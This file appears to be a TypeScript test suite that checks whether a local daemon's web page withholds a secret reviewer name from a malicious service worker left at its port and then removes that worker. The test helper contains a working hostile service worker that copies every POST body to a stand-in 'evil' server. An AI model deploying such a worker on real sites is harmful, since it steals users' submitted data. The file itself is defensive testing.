import { createServer } from 'node:http'
import { expect, test } from 'vitest'
import { PATIENCE } from '../extension/view.ts'
import { type Listening, listening } from './listening.ts'
import type { Scene } from './scene.ts'
import { openUnguardedServer } from './unguarded-server.ts'
import { ask, shows } from './views.ts'

const REVIEWER = 'Secret Reviewer'

/** An earlier program has left a service worker at the daemon's port. The worker copies the page's requests. */
export function describeServiceWorker(scene: () => Scene): void {
  test('sends no name to a foreign service worker, and removes it', async () => {
    const { browser, world } = scene()
    const evil = await openUnguardedServer()
    await world.daemon.stop()
    const earlier = await openEarlierProgram(world.daemon.port, evil.url)
    await browser.open(world.url)
    await browser.until(IS_CONTROLLED)
    // The attack works: the worker copies a request of this origin.
    await expect
      .poll(async () => {
        await browser.evaluate(`fetch('/api', { method: 'POST', body: 'a test' }).then(() => null)`)
        return evil.arrived.map(({ body }) => body)
      }, PATIENCE)
      .toContain('a test')
    await earlier.close()
    await world.restartDaemon()

    await browser.open(world.url)
    await browser.until(`document.querySelector('textarea') !== null`)
    await ask(browser, [REVIEWER], ['Scott Shenker'])
    await browser.until(shows(REVIEWER))
    await browser.until(`document.querySelector('[role=grid], .alert') !== null`)
    await browser.until(HAS_NO_WORKER)
    expect(evil.arrived.filter(({ body }) => body.includes(REVIEWER))).toEqual([])
    await browser.open(world.url)
    await browser.until(
      `document.querySelector('textarea') !== null && navigator.serviceWorker.controller === null`,
    )
    await browser.until(HAS_NO_WORKER)
    await browser.open(world.url)
    await browser.until(`document.querySelector('textarea') !== null`)
    expect(await browser.evaluate(IS_CONTROLLED)).toBe(false)
    await evil.close()
  })
}

const HAS_NO_WORKER = `navigator.serviceWorker.getRegistrations().then(({ length }) => length === 0)`
const IS_CONTROLLED = `navigator.serviceWorker.controller !== null`

/** Opens a program whose page registers a worker. The worker sends a copy of each request's body to `copiesTo`. */
function openEarlierProgram(port: number, copiesTo: string): Promise<Listening> {
  const worker = `
    onactivate = (event) => event.waitUntil(clients.claim())
    oninstall = () => skipWaiting()
    onfetch = (event) => {
      if (event.request.method === 'POST') {
        const copy = event.request.clone().text()
        event.waitUntil(copy.then((body) => fetch('${copiesTo}', { method: 'POST', mode: 'no-cors', body })).catch(() => {}))
      }
      event.respondWith(fetch(event.request))
    }`
  const page = `<!doctype html><title>An earlier program</title>
    <script>navigator.serviceWorker.register('/worker.js')</script>`
  const server = createServer((request, response) => {
    const isWorker = request.url === '/worker.js'
    response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html')
    request.resume().on('end', () => response.end(isWorker ? worker : page))
  })
  return listening(server, port)
}
